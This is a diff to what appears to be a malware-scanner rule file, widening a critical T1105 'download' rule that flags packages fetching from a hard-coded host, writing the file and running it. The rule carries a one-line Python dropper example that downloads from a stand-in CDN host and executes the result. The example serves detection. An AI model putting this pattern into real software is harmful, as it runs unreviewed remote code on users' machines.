@@ -216,7 +216,7 @@ correlation!(
     Critical,
     Download,
     Some("T1105"),
-    "One function downloads from a host written into it, writes the file and starts a program.",
+    "One function downloads from a host written into it, writes the file and starts a program or sets one to start.",
     "An updater or installer downloads what its caller or its configuration names; a function that fetches from a URL fixed in the package, saves it and runs it is a dropper whose second stage nobody can review.",
     "def color(): r = requests.get('https://cdn.example.net/x'); open(p, 'wb').write(r.content); subprocess.run([p])"
 );
